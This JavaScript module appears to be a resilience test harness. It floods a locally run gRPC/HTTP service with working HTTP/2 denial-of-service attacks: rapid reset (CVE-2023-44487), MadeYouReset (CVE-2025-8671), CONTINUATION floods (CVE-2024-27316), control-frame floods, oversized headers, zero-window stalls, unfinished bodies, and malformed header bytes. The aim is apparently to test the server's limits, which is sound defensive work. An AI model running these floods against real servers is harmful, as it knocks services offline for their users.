// HTTP/2 as nobody speaks it who wants an answer: connections of strangers to one of the ports, "grpc" or "http", which begin anew when
// they are closed.
import { connect } from "node:http2";
import { callHeaders, field, frame, getHeaders, number32, open, pause, preface, write } from "./raw.mjs";
import { random } from "./texts.mjs";

const endHeaders = 4;
const endStream = 1;

// Keeps `count` connections at work for so long; `make(first stream, connection's number)` gives the bytes of a round and the next stream.
async function flood(victim, port, { count = 4, seconds = 5, addresses = count, make, begin = () => Buffer.alloc(0) }) {
  const until = Date.now() + seconds * 1000;
  const sums = { connections: 0, rounds: 0 };
  await Promise.all(Array.from({ length: count }, async (_, lane) => {
    while (Date.now() < until && !victim.ended) {
      const socket = await open(victim, port, { from: `127.0.5.${1 + (lane % addresses)}`, speaks: "h2" });
      if (!socket) { await pause(20); continue; }
      const number = sums.connections++;
      socket.resume();
      let going = await write(socket, Buffer.concat([preface, frame("settings", 1, 0), begin(lane)]));
      let stream = 1;
      while (going && Date.now() < until && stream < 0x3fffffff) {
        const round = make(stream, number);
        stream = round.next;
        ++sums.rounds;
        going = await write(socket, round.bytes);
      }
      socket.destroy();
    }
  }));
  return sums;
}
const eachOf = (many, first, bytesOf) => {
  const parts = [];
  for (let i = 0; i < many; ++i) parts.push(bytesOf(first + 2 * i));
  return { bytes: Buffer.concat(parts), next: first + 2 * many };
};

// CVE-2023-44487: calls begun and given up, as fast as can be.
export async function rapidReset(victim, port) {
  const call = callHeaders(victim, port, "SessionService/SignIn");
  const one = (stream) => Buffer.concat([frame("headers", endHeaders, stream, call), frame("reset", 0, stream, number32(8))]);
  const sums = await flood(victim, port, { make: (stream) => eachOf(100, stream, one) });
  return `${sums.rounds * 100} resets in 5 s by four connections at a time, ${sums.connections} in all`;
}

// The same, over and over, from as many connections as are let in, each below what one may cost.
export async function rapidResetOfMany(victim, port) {
  const call = callHeaders(victim, port, "SessionService/SignIn");
  const one = (stream) => Buffer.concat([frame("headers", endHeaders, stream, call), frame("reset", 0, stream, number32(8))]);
  const until = Date.now() + 8_000;
  let resets = 0;
  await Promise.all(Array.from({ length: 32 }, async (_, lane) => {
    while (Date.now() < until && !victim.ended) {
      const socket = await open(victim, port, { from: `127.0.5.${1 + lane}`, speaks: "h2" });
      if (!socket) { await pause(20); continue; }
      socket.resume();
      await write(socket, Buffer.concat([preface, eachOf(190, 1, one).bytes]));
      resets += 190;
      await pause(5);
      socket.destroy();
    }
  }));
  return `${resets} resets in 8 s by 32 connections at a time, 190 each`;
}

// CVE-2025-8671: frames after which the server resets a stream itself.
export async function madeYouReset(victim, port) {
  const call = callHeaders(victim, port, "SessionService/SignIn");
  const begun = (stream, flags = 0) => frame("headers", endHeaders | flags, stream, call);
  const kinds = {
    "a window of nothing": (stream) => [begun(stream), frame("window", 0, stream, number32(0))],
    "a window too wide": (stream) => [begun(stream), frame("window", 0, stream, number32(0x7fffffff))],
    "data behind the end": (stream) => [begun(stream, endStream), frame("data", 0, stream, Buffer.from("more"))],
    "a short PRIORITY": (stream) => [begun(stream), frame("priority", 0, stream, Buffer.from([0]))],
    "a stream that hangs on itself": (stream) => [begun(stream), frame("priority", 0, stream, Buffer.concat([number32(stream), Buffer.from([1])]))],
    "headers twice": (stream) => [begun(stream), begun(stream)],
    "no path": (stream) => [frame("headers", endHeaders, stream, Buffer.concat([field(":method", "POST"), field(":scheme", "https")]))],
    "no such method": (stream) => [frame("headers", endHeaders, stream, callHeaders(victim, port, "NoService/NoMethod"))],
    "no content type": (stream) => [frame("headers", endHeaders, stream, Buffer.concat([field(":method", "GET"), field(":scheme", "https"), field(":path", "/"), field(":authority", "a")]))],
    "a deadline of nothing": (stream) => [frame("headers", endHeaders, stream, callHeaders(victim, port, "SessionService/SignIn", [["grpc-timeout", "1n"]]))],
    "a message that can't be": (stream) => [begun(stream), frame("data", 0, stream, Buffer.from([0, 0xff, 0xff, 0xff, 0xff]))],
    "a message of an unknown kind": (stream) => [begun(stream), frame("data", 0, stream, Buffer.from([7, 0, 0, 0, 0]))],
  };
  const makers = Object.values(kinds);
  const sums = await flood(victim, port, { seconds: 12, make: (stream, number) => eachOf(50, stream, (each) => Buffer.concat(makers[number % makers.length](each))) });
  return `${sums.rounds * 50} streams in 12 s of ${makers.length} kinds by four connections at a time, ${sums.connections} in all`;
}

// CVE-2024-27316: a header block without an end.
export async function continuationFlood(victim, port) {
  const call = callHeaders(victim, port, "SessionService/SignIn");
  const long = field("x-more", "a".repeat(8_000));
  const kinds = [
    Buffer.concat(Array(20).fill(frame("continuation", 0, 1, long))),
    Buffer.concat(Array(2_000).fill(frame("continuation", 0, 1))),
    Buffer.concat(Array(2_000).fill(frame("continuation", 0, 1, Buffer.from([0x20])))),
    Buffer.concat(Array(500).fill(frame("continuation", 0, 1, Buffer.from([0x82])))),
  ];
  const sums = await flood(victim, port, { seconds: 8, begin: () => frame("headers", 0, 1, call), make: (stream, number) => ({ bytes: kinds[number % kinds.length], next: stream }) });
  return `${sums.rounds} rounds of four kinds in 8 s, ${sums.connections} connections`;
}

// Frames that carry nothing.
export async function framesForNothing(victim, port) {
  const many = (bytes) => Buffer.concat(Array(1_000).fill(bytes));
  const kinds = {
    "PING": many(frame("ping", 0, 0, Buffer.alloc(8))),
    "PING's answer": many(frame("ping", 1, 0, Buffer.alloc(8))),
    "SETTINGS": many(frame("settings", 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]))),
    "empty SETTINGS": many(frame("settings", 0, 0)),
    "SETTINGS' answer": many(frame("settings", 1, 0)),
    "PRIORITY": many(frame("priority", 0, 101, Buffer.alloc(5))),
    "WINDOW_UPDATE": many(frame("window", 0, 0, number32(1))),
    "an unknown kind": many(frame(0xbe, 0, 0)),
    "RST_STREAM of nothing": many(frame("reset", 0, 1, number32(8))),
    "GOAWAY": many(frame("goaway", 0, 0, Buffer.alloc(8))),
    "empty DATA": many(frame("data", 0, 1)),
    "tables' sizes": many(frame("settings", 0, 0, Buffer.from([0, 1, 0, 0, 255, 255]))),
  };
  const makers = Object.values(kinds);
  const call = callHeaders(victim, port, "SessionService/SignIn");
  const sums = await flood(victim, port, { seconds: 12, begin: () => frame("headers", endHeaders, 1, call), make: (stream, number) => ({ bytes: makers[number % makers.length], next: stream }) });
  return `${sums.rounds} thousand frames of ${makers.length} kinds in 12 s, ${sums.connections} connections`;
}

// Headers that are many, or become many: a field that is kept once, and then named by a byte.
export async function manyHeaderBytes(victim, port) {
  const call = callHeaders(victim, port, "SessionService/SignIn");
  const inFrames = (stream, block) => {
    const parts = [];
    for (let at = 0; at < block.length; at += 16_000) {
      const last = at + 16_000 >= block.length;
      parts.push(frame(at === 0 ? "headers" : "continuation", last ? endHeaders : 0, stream, block.subarray(at, at + 16_000)));
    }
    return Buffer.concat(parts);
  };
  const kept = Buffer.concat([call, field("x-kept", "k".repeat(3_900), true), Buffer.alloc(50_000, 0xbe)]);
  const plain = Buffer.concat([call, ...Array(7).fill(field("x-long", "l".repeat(8_000)))]);
  const short = Buffer.concat([call, ...Array(9_000).fill(field("x", "s"))]);
  const kinds = [kept, plain, short];
  const sums = await flood(victim, port, { count: 8, seconds: 10, make: (stream, number) => eachOf(8, stream, (each) => inFrames(each, kinds[number % kinds.length])) });
  return `${sums.rounds * 8} calls with 45 to 56 KB of headers, of three kinds, in 10 s by eight connections, ${sums.connections} in all`;
}

// Good calls, as many as four strangers can make: what they cost is the daemon's, what they hold back is others'.
export async function callsOfStrangers(victim, port) {
  const call = callHeaders(victim, port, "RegistryService/ListProgrammes");
  const one = (stream) => Buffer.concat([frame("headers", endHeaders, stream, call), frame("data", endStream, stream, Buffer.from([0, 0, 0, 0, 0]))]);
  const sums = await flood(victim, port, { make: (stream) => eachOf(30, stream, one), seconds: 6 });
  return `${sums.rounds * 30} calls in 6 s by four connections at a time, ${sums.connections} in all`;
}

// Bytes that no field may hold, in names and values: what HTTP/1.1 is asked by badBytesInHeaders.
export async function badBytesOverHttp2(victim, port, expect, { seed }) {
  const next = random(seed);
  const names = ["authorization", "cookie", "klaim-purpose", "klaim-as-of", "klaim-purpose-bin", "connect-timeout-ms", "grpc-timeout", "content-type", "grpc-encoding", ":path", ":method", ":authority", "x-odd"];
  const call = callHeaders(victim, port, "RegistryService/ListProgrammes", [["authorization", `Bearer ${await victim.sessionOf("audit-1")}`]]);
  let number = 0;
  const odd = () => {
    const systematic = number < names.length * 256;
    const value = systematic ? Buffer.from([0x61, number >> 0 & 255, 0x62]) : Buffer.from(Array.from({ length: next(40) }, () => next(256)));
    const name = systematic ? names[number >> 8] : next(4) ? names[next(names.length)] : Buffer.from(Array.from({ length: 1 + next(12) }, () => next(256)));
    ++number;
    return field(name, value);
  };
  const sums = await flood(victim, port, { seconds: 8, make: (stream) => eachOf(10, stream, (each) => Buffer.concat([frame("headers", endHeaders, each, Buffer.concat([call, odd()])), frame("data", endStream, each, Buffer.alloc(port === "grpc" ? 5 : 0))])) });
  expect(number > names.length * 256, `${number} of ${names.length * 256} bytes were sent`);
  return `${number} calls, seed ${seed}, ${sums.connections} connections`;
}

// Who asks for much and takes nothing: a window of no width. `parts(stream)` are the frames of a call; from so many addresses.
async function askDeaf(victim, port, addresses, parts) {
  const sockets = [];
  let asked = 0;
  for (let i = 0; i < 64 * addresses && !victim.ended && !victim.tookTooMuch; ++i) {
    const socket = await open(victim, port, { from: `127.0.5.${1 + (i % addresses)}`, speaks: "h2" });
    if (!socket) continue;
    sockets.push(socket.resume());
    await write(socket, Buffer.concat([preface.subarray(0, 24), frame("settings", 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])), frame("settings", 1, 0)]));
    for (let each = 0; each < 32; ++each) if (await write(socket, parts(1 + 2 * each))) ++asked;
  }
  await pause(6_000);
  const standing = sockets.filter((socket) => !socket.destroyed).length;
  for (const socket of sockets) socket.destroy();
  return `${asked} requests; ${standing} of ${sockets.length} connections stood at the end`;
}

// Strangers, who ask for the largest file of the console, or for what they are refused.
export async function deafStrangers(victim, port) {
  if (port === "grpc") {
    const call = callHeaders(victim, port, "RegistryService/ListProgrammes");
    return askDeaf(victim, port, 4, (stream) => frame("headers", endHeaders | endStream, stream, call));
  }
  const page = (await victim.http("/")).body.toString();
  const files = [...page.matchAll(/(?:src|href)="(\/[^"]+)"/g)].map(([, path]) => path);
  const sizes = await Promise.all(files.map(async (path) => (await victim.http(path)).body.length));
  const largest = getHeaders(victim, files[sizes.indexOf(Math.max(...sizes))] ?? "/");
  return `a file of ${Math.max(...sizes)} bytes: ${await askDeaf(victim, port, 4, (stream) => frame("headers", endHeaders | endStream, stream, largest))}`;
}

// An account, that asks for lists of 1,000 claims.
export async function deafAccount(victim, port) {
  const list = Buffer.from([0x0a, 0x03, 0x08, 0xe8, 0x07]);  // page.size
  const head = callHeaders(victim, port, "IntakeService/ListClaims", [["authorization", `Bearer ${await victim.sessionOf("audit-1")}`]]);
  const body = port === "grpc" ? Buffer.concat([Buffer.from([0, 0, 0, 0, list.length]), list]) : list;
  return askDeaf(victim, port, 1, (stream) => Buffer.concat([frame("headers", endHeaders, stream, head), frame("data", endStream, stream, body)]));
}

// Bodies that begin and don't end: what all connections together may hold. HTTP/2 as it should be spoken, so that windows widen.
async function beginBodies(victim, port, { connections, addresses, calls, bytes, method, headers = {} }) {
  const body = Buffer.concat([Buffer.from(port === "grpc" ? [0, 0, 0x7f, 0xff, 0xff] : []), Buffer.alloc(bytes, 1)]);
  const type = port === "grpc" ? { te: "trailers", "content-type": "application/grpc" } : { "content-type": "application/proto" };
  const sessions = [];
  for (let i = 0; i < connections && !victim.ended && !victim.tookTooMuch; ++i) {
    const session = connect(port === "grpc" ? `https://${victim.grpc}` : victim.url, { ca: victim.ca, localAddress: `127.0.5.${1 + (i % addresses)}` });
    sessions.push(session.on("error", () => {}));
    for (let each = 0; each < calls; ++each) {
      const call = session.request({ ":method": "POST", ":path": `/klaim.v1.${method}`, ...type, ...headers }).on("error", () => {});
      call.resume();
      call.write(body);
    }
    await pause(5_000 / connections);
  }
  await pause(6_000);
  const standing = sessions.filter((session) => !session.destroyed).length;
  for (const session of sessions) session.destroy();
  return `${connections} connections with ${calls} bodies of ${bytes} bytes each; ${standing} stood at the end`;
}
export const unfinishedBodiesOfStrangers = (victim, port) =>
  beginBodies(victim, port, { connections: 240, addresses: 4, calls: 30, bytes: port === "grpc" ? 7_900_000 : 60_000, method: "SessionService/SignIn" });
export const unfinishedBodiesOfAccount = async (victim, port) =>
  beginBodies(victim, port, { connections: 60, addresses: 1, calls: 2, bytes: 7_900_000, method: "ImportExportService/StageImport", headers: { authorization: `Bearer ${await victim.sessionOf("audit-1")}` } });
